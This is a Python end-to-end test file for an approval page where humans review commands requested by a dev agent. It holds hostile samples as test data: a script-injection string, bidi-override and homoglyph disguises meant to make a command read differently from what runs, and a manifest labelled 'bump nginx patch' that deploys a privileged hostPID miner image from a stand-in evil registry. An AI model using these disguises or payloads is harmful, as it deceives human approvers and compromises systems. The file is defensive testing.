"""The approval page in a real headless browser (Debian's chromium, driven by Selenium): open the
link from the newest .eml, read the exact command (markup in it shown as text, no script run),
press Approve, see the outcome; the agent then fetches the result."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from devhost.smtp import read_message
from tests.approvals.e2e.conftest import LINK, Flow

pytestmark = [pytest.mark.e2e, pytest.mark.browser]
CHROMIUM, DRIVER = shutil.which("chromium"), shutil.which("chromedriver")
INJECTED = ("UPDATE customers SET notes = 'e2e-run;' WHERE id = 211 "
            "-- <b id=injected>x</b><script>document.title='pwned'</script>")


@pytest.fixture
def browser():
    if not (CHROMIUM and DRIVER):
        pytest.skip("Debian chromium and chromium-driver are not installed (scripts/system-deps.sh)")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                "--window-size=1000,1100"):
        options.add_argument(arg)
    driver = webdriver.Chrome(service=Service(DRIVER), options=options)
    driver.set_page_load_timeout(20)
    yield driver
    driver.quit()


def newest_link(flow: Flow, request_id: str, to: str) -> str:
    flow.links(request_id)  # waits until the mails are there
    for path in sorted((flow.stack.state_dir / "mail").glob("*.eml"), reverse=True):
        message = read_message(path)
        text = message.get_body(("plain",)).get_content()
        if message["To"].addresses[0].addr_spec == to and request_id in text:
            return LINK.findall(text)[0]
    raise AssertionError("no mail")


def test_approve_in_a_real_browser(flow, browser, tmp_path: Path):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions
    from selenium.webdriver.support.ui import WebDriverWait

    rid = flow.pending(INJECTED)["request_id"]
    browser.get(newest_link(flow, rid, "ada@dev.example"))
    assert browser.find_element(By.ID, "command").text == INJECTED  # exact, as text
    assert browser.find_elements(By.ID, "injected") == []  # no markup was interpreted
    assert browser.title != "pwned"
    assert browser.find_element(By.ID, "target").text == "demo-postgres"
    assert browser.find_element(By.ID, "risk").text == "write"
    assert browser.find_element(By.ID, "reason").text == "e2e: tidy a test customer"
    assert "min" in browser.find_element(By.ID, "time-left").text
    assert "Devin (dev agent)" in browser.find_element(By.ID, "requester").text
    # the page's own style applies (CSP nonce), nothing else loads
    assert browser.find_element(By.ID, "approve").value_of_css_property("background-color") == "rgba(16, 124, 16, 1)"
    browser.save_screenshot(str(tmp_path / "approval-page.png"))
    assert flow.status(rid)["status"] == "pending"  # opening decided nothing

    browser.find_element(By.ID, "approve").click()
    WebDriverWait(browser, 15).until(expected_conditions.presence_of_element_located((By.ID, "outcome")))
    assert browser.find_element(By.ID, "outcome").text == "Approved", browser.page_source
    assert "runs now" in browser.find_element(By.ID, "state").text
    browser.save_screenshot(str(tmp_path / "approval-outcome.png"))
    done = flow.wait_status(rid, "done", "failed")
    assert done["status"] == "done" and done["result"]["affected_rows"] == 1

    browser.back()
    browser.refresh()  # the spent link shows no buttons any more
    assert browser.find_elements(By.ID, "approve") == []


BIDI = "UPDATE customers SET notes = 'e2e-bidi' WHERE id = 213 /* INC-7 \u202e-- 0 < di RO */"
FOREIGN = {"apiVersion": "apps/v1", "kind": "Deployment",
           "metadata": {"name": "nginx-patch", "namespace": "demo", "labels": {"app": "nginx-patch"}},
           "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "nginx-patch"}},
                    "template": {"metadata": {"labels": {"app": "nginx-patch"}},
                                 "spec": {"hostPID": True, "containers": [{
                                     "name": "nginx", "image": "registry.evil.example/miner:latest",
                                     "securityContext": {"privileged": True}}]}}}}


def test_a_bidi_override_is_shown_escaped_with_a_warning(flow, browser):
    from selenium.webdriver.common.by import By

    pending = flow.pending(BIDI)
    rid = pending["request_id"]
    status = flow.status(rid)
    assert status["risk"] == "hidden-text"
    browser.get(newest_link(flow, rid, "ada@dev.example"))
    command = browser.find_element(By.ID, "command")
    assert "\u202e" not in command.text  # never rendered: it would reorder what the approver reads
    marks = command.find_elements(By.CSS_SELECTOR, "mark.invisible")
    assert [m.text for m in marks] == ["⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩"]
    assert marks[0].value_of_css_property("background-color") == "rgba(255, 212, 0, 1)"  # highlighted
    assert command.text.startswith("UPDATE customers SET notes = 'e2e-bidi' WHERE id = 213 /* INC-7 ⟨U+202E")
    warning = browser.find_element(By.ID, "hidden-warning")
    assert "display differently from what runs" in warning.text and "U+202E RIGHT-TO-LEFT OVERRIDE" in warning.text
    assert browser.find_element(By.ID, "risk").text == "hidden-text"
    browser.find_element(By.ID, "deny").click()
    assert flow.wait_status(rid, "denied")["status"] == "denied"


PAD = "".join(f"step {i:05d} checked; " for i in range(4000))  # 88,000 characters: past the mail's 8,000
DISGUISED = ("UPDATE customers SET notes = 'e2e-disguised' WHERE id = 214 /* " + PAD
             + "\u2066INC-8\u2069 del\u00adete \U000e0041\U000e007f =\u0338 */ AND name <> '\u0441\u043e\u0440'")


def test_every_disguise_is_shown_escaped_even_at_the_end_of_a_long_command(flow, browser):
    """Isolates, a soft hyphen, tag characters, a combining overlay and a Cyrillic word that reads as
    Latin, after 88,000 characters: the page shows the command whole with each one marked; the mail
    cuts, says how much more there is, and still warns about every one."""
    from selenium.webdriver.common.by import By

    rid = flow.pending(DISGUISED)["request_id"]
    assert flow.status(rid)["risk"] == "hidden-text"
    browser.get(newest_link(flow, rid, "ada@dev.example"))
    command = browser.find_element(By.ID, "command")
    text = command.get_attribute("textContent")
    assert PAD in text and text.endswith("AND name <> '⟨U+0441 CYRILLIC SMALL LETTER ES⟩⟨U+043E CYRILLIC SMALL "
                                         "LETTER O⟩⟨U+0440 CYRILLIC SMALL LETTER ER⟩'"), text[-300:]
    marks = [m.get_attribute("textContent") for m in command.find_elements(By.CSS_SELECTOR, "mark")]
    assert marks == ["⟨U+2066 LEFT-TO-RIGHT ISOLATE⟩", "⟨U+2069 POP DIRECTIONAL ISOLATE⟩", "⟨U+00AD SOFT HYPHEN⟩",
                     "⟨U+E0041 TAG LATIN CAPITAL LETTER A⟩", "⟨U+E007F CANCEL TAG⟩",
                     "⟨U+0338 COMBINING LONG SOLIDUS OVERLAY⟩", marks[-1]], marks
    assert command.find_elements(By.CSS_SELECTOR, "mark.confusable")
    for hidden in ("\u2066", "\u2069", "\u00ad", "\U000e0041", "\u0338", "\u0441"):
        assert hidden not in text
    warning = browser.find_element(By.ID, "hidden-warning").text
    assert "U+00AD SOFT HYPHEN" in warning and "CYRILLIC letters that look like Latin ones" in warning
    mail = next(read_message(p) for p in sorted((flow.stack.state_dir / "mail").glob("*.eml"), reverse=True)
                if rid in read_message(p).get_body(("plain",)).get_content())
    body = mail.get_body(("plain",)).get_content()
    assert "more characters not shown in this mail" in body and "U+0338 COMBINING LONG SOLIDUS OVERLAY" in body
    assert "\u2066" not in body and "\u0338" not in body
    browser.find_element(By.ID, "deny").click()
    assert flow.wait_status(rid, "denied")["status"] == "denied"


def test_kubectl_apply_shows_the_whole_manifest_and_its_dry_run_diff(flow, browser):
    """The issue's attack: "bump nginx patch" was a privileged hostPID deployment of a foreign image.
    The approver now reads the whole manifest and the server-side dry run's diff."""
    from selenium.webdriver.common.by import By

    r = flow.call("POST", "/api/execute", json={"target": "demo-k8s", "kubectl": ["apply", "-n", "demo"],
                                                "manifest": FOREIGN, "reason": "bump nginx patch"})
    assert r.status_code == 202, r.text
    rid = r.json()["request_id"]
    browser.get(newest_link(flow, rid, "ada@dev.example"))
    assert browser.find_element(By.ID, "command").text == "kubectl apply -n demo"
    manifest = browser.find_element(By.ID, "manifest").text
    for line in ("kind: Deployment", "hostPID: true", "privileged: true", "image: registry.evil.example/miner:latest"):
        assert line in manifest, manifest
    diff = browser.find_element(By.ID, "diff").text
    assert diff.startswith("--- live/demo/deployment.apps/nginx-patch") and "+      hostPID: true" in diff, diff
    assert "+      - image: registry.evil.example/miner:latest" in diff and "+          privileged: true" in diff
    assert "execute.preview" in flow.events(rid)  # the dry run is journaled (masked), made before the mail
    mail = next(read_message(p) for p in sorted((flow.stack.state_dir / "mail").glob("*.eml"), reverse=True)
                if rid in read_message(p).get_body(("plain",)).get_content())
    text = mail.get_body(("plain",)).get_content()
    assert "hostPID: true" in text and "+      hostPID: true" in text and "[manifest (YAML, complete)]" in text
    get = flow.call("POST", "/api/execute", json={"target": "demo-k8s",
                                                  "kubectl": ["get", "deployment", "nginx-patch", "-n", "demo"]})
    assert get.status_code == 404  # the dry run created nothing
    browser.find_element(By.ID, "deny").click()
    assert flow.wait_status(rid, "denied")["status"] == "denied"


GROW = "UPDATE customers SET notes = 'e2e-grown' WHERE name = 'e2e-grow'"


def test_the_approver_reads_the_measured_rows_and_a_change_that_grew_is_rolled_back(flow, browser):
    """The approver is shown "changes 3 of N rows"; before the approved run, three become four (a
    concurrent insert): the run changes more than was approved, so it rolls back and the request fails."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions
    from selenium.webdriver.support.ui import WebDriverWait

    assert flow.stack.postgres is not None
    with flow.stack.postgres.admin("demo") as db:
        db.execute("DELETE FROM customers WHERE name = 'e2e-grow'")
        for cid in (9101, 9102, 9103):
            db.execute("INSERT INTO customers (id, name, email, card_number, notes, created_at) VALUES "
                       "(%s, 'e2e-grow', %s, '4111111111111111', 'before', now())", (cid, f"grow{cid}@example.com"))
    rid = flow.pending(GROW)["request_id"]
    browser.get(newest_link(flow, rid, "ada@dev.example"))
    lines = [li.text for li in browser.find_elements(By.CSS_SELECTOR, "#impact li")]
    assert any(line.startswith("changes 3 of") and "customers" in line and "3 updated" in line for line in lines), lines
    # the changed rows, as they would be, masked: approvers never read the personal data they change
    sample = browser.find_element(By.ID, "impact-sample")
    cells = [[td.text for td in tr.find_elements(By.TAG_NAME, "td")] for tr in sample.find_elements(By.TAG_NAME, "tr")]
    assert len([row for row in cells if row]) == 3 and all("e2e-grown" in row for row in cells if row), cells
    assert "grow9101@example.com" not in sample.text and "4111111111111111" not in sample.text, sample.text
    assert browser.find_elements(By.ID, "impact-warning") == []
    assert flow.rows("SELECT count(*) FROM customers WHERE notes = 'e2e-grown'") == [(0,)]  # the trial rolled back

    with flow.stack.postgres.admin("demo") as db:
        db.execute("INSERT INTO customers (id, name, notes, created_at) VALUES (9104, 'e2e-grow', 'before', now())")
    browser.find_element(By.ID, "approve").click()
    WebDriverWait(browser, 15).until(expected_conditions.presence_of_element_located((By.ID, "outcome")))
    ended = flow.wait_status(rid, "done", "failed")
    assert ended["status"] == "failed" and ended["error"]["code"] == "impact_exceeded", ended
    assert flow.rows("SELECT count(*) FROM customers WHERE notes = 'e2e-grown'") == [(0,)]  # nothing committed
    assert flow.rows("SELECT count(*) FROM customers WHERE name = 'e2e-grow' AND notes = 'before'") == [(4,)]
